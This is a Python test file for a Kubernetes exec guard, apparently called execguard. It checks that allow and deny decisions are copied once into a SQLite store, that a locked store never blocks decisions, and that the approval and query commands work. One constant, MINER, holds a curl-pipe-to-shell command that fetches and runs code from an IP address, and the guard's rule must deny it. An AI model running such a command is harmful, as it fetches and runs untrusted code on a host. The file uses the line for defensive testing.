"""guard's record in the SQLite alert store: copied from decisions.jsonl, at most once, and never in a decision's way."""

from __future__ import annotations

import json
import sqlite3
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from execguard.cli import app
from execguard.engine.load import load_rules
from execguard.guard.decide import Request
from execguard.guard.record import GuardRecorder, JsonlRecorder, StoreFollower
from execguard.guard.runtime import GuardRuntime
from execguard.sinks.decisions import open_store, sync
from execguard.sinks.store import connect

RULES = load_rules()
MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]


def k8s_exec(argv: list[str], user: str = "alice", namespace: str = "shop") -> Request:
    return Request(platform="k8s", operation="exec", argv=argv, user=user, namespace=namespace, pod="web-0", container="app")


def store_rows(db_path: Path, where: str = "1") -> list[sqlite3.Row]:
    db = sqlite3.connect(db_path)
    db.row_factory = sqlite3.Row
    try:
        return list(db.execute(f"SELECT * FROM guard_records WHERE {where} ORDER BY id"))
    finally:
        db.close()


def test_sync_copies_each_line_once_and_waits_for_a_whole_line(tmp_path: Path) -> None:
    record = tmp_path / "decisions.jsonl"
    jsonl = JsonlRecorder(record)
    runtime = GuardRuntime(RULES, jsonl)
    assert runtime.decide(k8s_exec(["ls"])).allowed
    assert not runtime.decide(k8s_exec(MINER)).allowed
    db = open_store(tmp_path / "guard.db")
    first = sync(db, record)
    assert (first.copied, first.lines, first.behind) == (2, 2, 0)
    assert sync(db, record).copied == 0  # nothing new: nothing twice
    with open(record, "ab") as f:
        f.write(b'{"time": "2026-12-02T07:00:00Z", "kind": "decis')  # a line being written (or cut by a kill)
    assert sync(db, record).copied == 0
    with open(record, "ab") as f:
        f.write(b'ion", "allowed": true}\nnot json\n')
    again = sync(db, record)
    assert again.copied == 1 and len(again.bad) == 1
    rows = store_rows(tmp_path / "guard.db")
    assert [r["decision"] for r in rows] == ["allow", "deny", "allow"]
    assert rows[1]["rule_id"] == "cmd-download-pipe-shell" and rows[1]["command"] == " ".join(MINER)
    assert rows[1]["user"] == "alice" and rows[1]["namespace"] == "shop"
    # a recreated record (rotation) is read from its start; record ids keep the copied rows single
    text = record.read_bytes()
    record.unlink()
    record.write_bytes(text)
    assert sync(db, record).copied == 0
    # the alert tables are untouched and still usable by `execguard alerts`
    assert connect(tmp_path / "guard.db").execute("SELECT count(*) FROM alerts").fetchone()[0] == 0
    db.close()
    jsonl.close()


def test_a_locked_store_never_holds_up_a_decision_and_catches_up(tmp_path: Path) -> None:
    record, store = tmp_path / "decisions.jsonl", tmp_path / "guard.db"
    open_store(store).close()
    locker = sqlite3.connect(store, isolation_level=None)
    locker.execute("BEGIN EXCLUSIVE")  # another process holds the store
    warnings: list[str] = []
    follower = StoreFollower(store, record, warnings.append, interval=3600, follow=False)
    runtime = GuardRuntime(RULES, GuardRecorder(JsonlRecorder(record), follower))
    verdicts = [runtime.decide(k8s_exec(MINER if i % 2 else ["ls"])).allowed for i in range(20)]
    assert verdicts == [i % 2 == 0 for i in range(20)]  # all decided while the store was locked
    assert len(record.read_text().splitlines()) == 20
    assert follower.copy() is False and follower.failures == 1 and "decisions go on" in warnings[0]
    locker.execute("ROLLBACK")
    locker.close()
    runtime.recorder.close()  # the last copy
    assert follower.copied == 20 and follower.behind == 0
    assert len(store_rows(store, "decision = 'deny'")) == 10


def test_a_store_that_cannot_be_opened_is_reported_and_decisions_go_on(tmp_path: Path) -> None:
    record = tmp_path / "decisions.jsonl"
    warnings: list[str] = []
    follower = StoreFollower(tmp_path / "no-such-dir" / "guard.db", record, warnings.append, follow=False)
    runtime = GuardRuntime(RULES, GuardRecorder(JsonlRecorder(record), follower))
    assert not runtime.decide(k8s_exec(MINER)).allowed
    runtime.recorder.close()
    assert follower.failures == 1 and "no-such-dir" in warnings[0] and len(record.read_text().splitlines()) == 1


def invoke(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stdout


def test_approve_and_decisions_query(tmp_path: Path) -> None:
    store, state = tmp_path / "guard.db", tmp_path / "state"
    code, _ = invoke("guard", "approve", "--user", "bob", "--for", "10m", "--reason", "INC-3", "--state-dir", str(state),
                     "--store", str(store))  # fmt: skip
    assert code == 0
    record = state / "decisions.jsonl"
    follower = StoreFollower(store, record, print, follow=False)
    runtime = GuardRuntime(RULES, GuardRecorder(JsonlRecorder(record), follower))
    runtime.decide(k8s_exec(["ls"], user="carol"))
    runtime.decide(k8s_exec(MINER, user="carol", namespace="prod"))
    runtime.decide(k8s_exec(["cat", "/etc/hostname"], user="dave", namespace="prod"))
    runtime.recorder.close()

    def lines(*args: str) -> list[dict[str, Any]]:
        code, out = invoke("guard", "decisions", "--store", str(store), "-o", "jsonl", *args)
        assert code == 0, out
        return [json.loads(line) for line in out.splitlines()]

    assert [d["kind"] for d in lines()] == ["approval", "decision", "decision", "decision"]
    (approval,) = lines("--kind", "approval")
    assert approval["user"] == "bob" and approval["reason"] == "INC-3"
    (denied,) = lines("--decision", "deny")
    assert denied["user"] == "carol" and denied["namespace"] == "prod" and denied["allowed"] is False
    assert [d["user"] for d in lines("--namespace", "prod")] == ["carol", "dave"]
    assert [d["user"] for d in lines("--user", "dave")] == ["dave"]
    assert lines("--rule", "cmd-download-pipe-shell") == [denied]
    assert [d["user"] for d in lines("--limit", "2")] == ["carol", "dave"]
    assert lines("--since", datetime.now(UTC).replace(year=2030).isoformat()) == []
    code, table = invoke("guard", "decisions", "--store", str(store))
    assert code == 0 and "APPROVAL" in table and "DENY" in table and "cmd-download-pipe-shell" in table
    code, _ = invoke("guard", "decisions", "--store", str(tmp_path / "missing.db"))
    assert code == 2


def test_store_needs_the_record_in_a_file(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        app, ["guard", "approve", "--user", "x", "--for", "1m", "--reason", "r", "--state-dir", str(tmp_path),
              "--record", "-", "--store", str(tmp_path / "s.db")],
    )  # fmt: skip
    assert result.exit_code == 2 and "--record" in result.stderr
